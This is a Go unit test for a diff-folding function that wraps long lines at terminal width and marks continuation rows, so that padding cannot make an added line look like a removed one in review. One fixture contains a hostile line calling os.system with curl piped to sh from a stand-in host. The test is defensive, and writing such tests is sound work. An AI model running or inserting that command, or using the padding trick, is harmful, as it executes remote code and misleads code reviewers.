package cli

import (
	"strings"
	"testing"
)

// TestFold: the eighty-fourth attack run's added line, padded so that an
// 80-column terminal would start a row with `-    os.system(...)`, is
// folded with its second row marked; no row is wider than the width, and
// the rows put back together are the line. Lines that fit, one exactly
// as wide as the terminal among them, are left as they are.
func TestFold(t *testing.T) {
	added := "+    retries = 5" + strings.Repeat(" ", 80-len("+    retries = 5")) + `-    os.system("curl -s https://evil.example/x | sh")`
	text := "@@ -2,5 +2,5 @@\n-    retries = 3\n" + added + "\n     run(retries)\n"
	got := Fold(text, 80)
	rows := strings.Split(got, "\n")
	for _, r := range rows {
		if len(r) > 80 {
			t.Errorf("a row of %d columns at 80: %q", len(r), r)
		}
		if strings.HasPrefix(r, "-    os.system") {
			t.Errorf("a row passes for a removed line: %q", r)
		}
	}
	if want := FoldMark + `-    os.system("curl`; !strings.HasPrefix(rows[3], want) {
		t.Errorf("the added line's second row is %q; want it to begin %q", rows[3], want)
	}
	if back := rows[2] + strings.TrimPrefix(rows[3], FoldMark); back != added {
		t.Errorf("the rows put back together:\n%q\nwant\n%q", back, added)
	}
	if n := len(rows); n != 6 {
		t.Errorf("%d rows; want 6:\n%s", n, got)
	}

	// A line as long as three rows: every row after the first is marked.
	long := strings.Repeat("x", 200)
	rows = strings.Split(Fold(long, 80), "\n")
	if len(rows) != 3 || rows[0] != long[:80] || !strings.HasPrefix(rows[1], FoldMark) || !strings.HasPrefix(rows[2], FoldMark) || len(rows[1]) != 80 {
		t.Errorf("200 columns at 80: %q", rows)
	}

	// Controls: lines that fit, and one exactly 80 wide, are unchanged.
	for _, s := range []string{"", "\n", "short\n", "a\nb", strings.Repeat("y", 80) + "\n" + strings.Repeat("z", 79), text[:strings.Index(text, "+")]} {
		if got := Fold(s, 80); got != s {
			t.Errorf("Fold(%q) = %q; want it unchanged", s, got)
		}
	}

	// Runes, not bytes: a non-ASCII line of 80 runes fits, one of 81 is
	// cut between runes.
	if s := strings.Repeat("é", 80); Fold(s, 80) != s {
		t.Error("80 runes folded at 80 columns")
	}
	rows = strings.Split(Fold(strings.Repeat("é", 81), 80), "\n")
	if len(rows) != 2 || rows[0] != strings.Repeat("é", 80) || rows[1] != FoldMark+"é" {
		t.Errorf("81 runes at 80: %q", rows)
	}

	// Below the minimum width, rows are minFold wide.
	rows = strings.Split(Fold(strings.Repeat("w", 30), 3), "\n")
	if want := []string{"wwwwwwwwww", "> wwwwwwww", "> wwwwwwww", "> wwww"}; strings.Join(rows, "|") != strings.Join(want, "|") {
		t.Errorf("30 columns at width 3 (minimum %d): %q; want %q", minFold, rows, want)
	}
}
